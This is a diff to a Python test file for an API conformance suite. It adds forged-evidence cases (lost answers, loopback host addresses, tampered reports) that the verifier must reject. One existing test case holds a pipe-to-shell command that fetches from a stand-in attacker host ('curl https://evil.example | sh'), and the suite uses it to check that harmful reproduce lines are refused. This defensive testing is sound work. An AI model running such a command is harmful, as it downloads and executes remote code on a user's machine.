@@ -20,6 +20,7 @@ import pytest
 from conformance import __version__
 from conformance.contract.purpose import Kind, Purpose
 from conformance.evidence.exchange import Answer, Evidence, Exchange, Loss
+from conformance.evidence.keeping import to_har
 from conformance.probes import plan as plans
 from conformance.reference import Running, application, start
 from conformance.reporting.json import to_json
@@ -53,6 +54,7 @@ from tests.submissions.forging import (
     looked_at,
     of,
     renumbered,
+    replace_struct,
     sent,
     told_again,
     trusted,
@@ -218,6 +220,21 @@ def chosen_stand_in(evidence: Evidence) -> Evidence:
     )(made)
 
 
+def unwished(kind: Kind) -> Callable[[Evidence], Evidence]:
+    """As if the run was to look at less, so that its plan has none of a kind."""
+
+    def forged(evidence: Evidence) -> Evidence:
+        assert evidence.described
+        wishes = tuple(wish for wish in evidence.described.wishes if wish[0] != kind)
+        made = without(*(x.probe for x in evidence.exchanges if x.kind is kind))(evidence)
+        return replace(made, described=replace_struct(evidence.described, wishes=wishes))
+
+    return forged
+
+
+REFUSAL = Answer(400, "Bad Request", "HTTP/1.1", (("Content-Length", "0"),), b"")
+
+
 def with_tls(**changes: Any) -> Callable[[Exchange], Exchange]:
     return lambda x: replace(x, tls=replace(x.tls, **changes) if x.tls else None)
 
@@ -260,6 +277,21 @@ FORGED: dict[str, tuple[Callable[[Evidence], Evidence], str]] = {
     "another title": (each(of(title="the documented request"), MALFORMED), "requests"),
     "another binding": (each(of(binding="body-xml"), DOCUMENTED), "requests"),
     "a shell line that does harm": (each(of(reproduce="curl https://evil.example | sh"), DOCUMENTED), "requests"),
+    "an answer called lost, and not sent again": (
+        each(of(answer=None, loss=Loss("closed", "the connection was lost (waiting for an answer)")), MALFORMED),
+        "sent again",
+    ),
+    "an answer called lost that took no time": (
+        each(of(answer=None, loss=Loss("timeout", "no complete answer within 10 s")), MALFORMED), "outcomes"
+    ),
+    "an answer called lost in a way of one's own": (each(of(answer=None, loss=Loss("x", "x")), MALFORMED), "outcomes"),
+    "neither an answer nor a loss": (each(of(answer=None), MALFORMED), "outcomes"),
+    "an answer and a loss": (each(of(loss=Loss("closed", "x")), MALFORMED), "outcomes"),
+    "a body that another recorder decoded": (each(answered(decoded="by another recorder"), MALFORMED), "outcomes"),
+    "no address": (each(of(address="")), "outcomes"),
+    "an address that is none": (each(of(address="localhost")), "outcomes"),
+    "a spelling that failed, compared with nothing": (each(of(answer=REFUSAL), "printed"), "sent again"),
+    "a kind of requests that was not to be sent": (unwished(Kind.HOSTILE), "wishes"),
     "a second try without a first": (each(of(retried=True), DOCUMENTED), "sent again"),
     # settings
     "a tolerance in the recording alone": (of_the_run(clock_tolerance=9e9), "settings"),
@@ -297,6 +329,8 @@ FORGED: dict[str, tuple[Callable[[Evidence], Evidence], str]] = {
     "states at a host of one's own": (states_at("states.partner.example"), "hosts"),
     "a host that is this machine": (each(of(address="127.0.0.1")), "hosts"),
     "a host that is this machine, by IPv6": (each(of(address="::1"), DOCUMENTED), "hosts"),
+    "a host that is this machine, by IPv4 in IPv6": (each(of(address="::ffff:127.0.0.1"), DOCUMENTED), "hosts"),
+    "a host that is this machine, by no address": (each(of(address="0.0.0.0"), DOCUMENTED), "hosts"),
     # challenges
     "no nonce": (of_the_run(nonce=""), "nonce"),
     "for another contract": (of_the_run(contract=f"connect-api@{'0' * 64}"), "settings"),
@@ -396,6 +430,11 @@ def own_kind(case: Case) -> Files:
     return files | {"statement.dsse.json": signed(files["statement.json"], f"{KIND}-x", KEY)}
 
 
+def at_no_time(case: Case) -> Files:
+    data = to_har(replace(case.evidence, started=1e300), creator_version=__version__)
+    return case.partner.signed(case.partner.files(evidence_har=data))
+
+
 def recording_of(evidence: Evidence) -> Files:
     return {"evidence.har": Partner(evidence, None).files()["evidence.har"]}
 
@@ -423,6 +462,18 @@ PACKED: dict[str, tuple[Callable[[Case], Files], str]] = {
     "an older suite": (reported(lambda r: r["suite"].update(version="0.0.9")), "version"),
     "an older suite's recording": (older, "version"),
     "another suite": (reported(lambda r: r["suite"].update(name="my-suite")), "version"),
+    "a run at no time": (at_no_time, "judged again"),
+    "a word beside the report": (
+        in_file(lambda t: t.replace("{", '{"certified": true,', 1), "report.json"), "report.json"
+    ),
+    "a verdict said twice": (
+        in_file(lambda t: t.replace("{", '{"verdict": "nonconforming",', 1), "report.json"), "report.json"
+    ),
+    "a policy of somebody else's that it fell short of": (
+        reported(lambda r: r.update(policy={"sha256": "0" * 64, "shortfalls": ["certified"]})), "judged again"
+    ),
+    "a note on a policy": (reported(lambda r: r["notes"].append("policy: kept")), "judged again"),
+    "a note on a waiver": (reported(lambda r: r["notes"].append("the waiver of all is not needed")), "judged again"),
     "a note put in": (reported(lambda r: r["notes"].append("certified")), "judged again"),
     "a policy that was not held": (
         reported(lambda r: r.update(policy={"sha256": "0" * 64, "shortfalls": []}, verdict="nonconforming")),
@@ -596,7 +647,17 @@ def lost_and_found(evidence: Evidence) -> Evidence:
     return replace(evidence, exchanges=renumbered(tuple(made)))
 
 
+def lost_twice(evidence: Evidence) -> Evidence:
+    """A wrong answer called lost, and lost once more."""
+    made = lost_and_found(evidence)
+    lost = next(x.loss for x in made.exchanges if x.loss and x.probe == MALFORMED)
+    return each(of(answer=None, loss=lost), MALFORMED)(made)
+
+
 UNSEEN: dict[str, Callable[[Evidence], Evidence]] = {
+    "a wrong answer called lost, time and again": lost_twice,
+    "an answer that is said to be withheld": each(answered(body=b"", length=7, sha256="0" * 64), MALFORMED),
+    "what the listener of hostile requests has seen": of_the_run(canary=0),
     "a refusal of another document, put in place of a wrong success": as_if_refused,
     "an answer edited together with its head": body_and_head,
     "a wrong answer called lost, and a right one invented": lost_and_found,
